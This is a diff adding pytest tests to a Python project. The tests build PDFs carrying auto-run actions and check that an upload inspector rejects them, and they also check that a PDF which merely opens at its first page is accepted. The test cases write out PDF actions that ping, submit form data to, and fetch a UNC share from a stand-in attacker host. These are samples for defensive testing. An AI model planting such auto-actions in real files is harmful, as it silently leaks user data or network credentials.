@@ -5,6 +5,8 @@ from __future__ import annotations
 import csv
 import io
 
+import pytest
+
 from counter.security import hash_password, verify_password
 from counter.services import opendata
 from counter.services.accounts import password_problems
@@ -58,3 +60,57 @@ def test_serve_listens_on_this_machine_only_unless_told_otherwise(monkeypatch):
         assert args.func(args) == 0
     hosts = [command[command.index("--backend-host") + 1] for command in commands]
     assert hosts == ["127.0.0.1", "0.0.0.0"]
+
+
+# --- 33: PDFs that act by themselves -----------------------------------------------------------
+
+
+def _pdf_with(where: str, action: dict) -> bytes:
+    from pypdf import PdfWriter
+    from pypdf.generic import DictionaryObject, NameObject, TextStringObject
+
+    writer = PdfWriter()
+    writer.add_blank_page(595, 842)
+    entries = {NameObject(k): (NameObject(v) if v.startswith("/") else TextStringObject(v))
+               for k, v in action.items()}
+    target = DictionaryObject(entries)
+    if where == "open":
+        writer._root_object[NameObject("/OpenAction")] = target
+    else:  # a page's additional action, run when the page opens
+        writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): target})
+    buffer = io.BytesIO()
+    writer.write(buffer)
+    return buffer.getvalue()
+
+
+@pytest.mark.parametrize(("where", "action"), [
+    ("page", {"/S": "/URI", "/URI": "http://attacker.example/ping"}),
+    ("open", {"/S": "/SubmitForm", "/F": "http://attacker.example/collect"}),
+    ("open", {"/S": "/GoToR", "/F": "\\\\attacker.example\\share\\x.pdf"}),
+    ("open", {"/S": "/GoTo", "/D": "/page1"}),  # even a harmless-looking auto action
+])
+def test_security_33_pdfs_with_actions_that_run_by_themselves_are_refused(
+        where, action, tmp_path):
+    from counter.services.documents import DocumentRejected, inspect_file
+
+    path = tmp_path / "auto.pdf"
+    path.write_bytes(_pdf_with(where, action))
+    with pytest.raises(DocumentRejected) as caught:
+        inspect_file(path)
+    assert caught.value.code == "error.file_active_content"
+
+
+def test_security_33_a_pdf_that_opens_at_its_first_page_is_accepted(tmp_path):
+    from pypdf import PdfWriter
+    from pypdf.generic import ArrayObject, NameObject
+
+    from counter.services.documents import inspect_file
+
+    writer = PdfWriter()
+    page = writer.add_blank_page(595, 842)
+    writer._root_object[NameObject("/OpenAction")] = ArrayObject(
+        [page.indirect_reference, NameObject("/Fit")])
+    path = tmp_path / "plain.pdf"
+    with path.open("wb") as out:
+        writer.write(out)
+    assert inspect_file(path).pages == 1
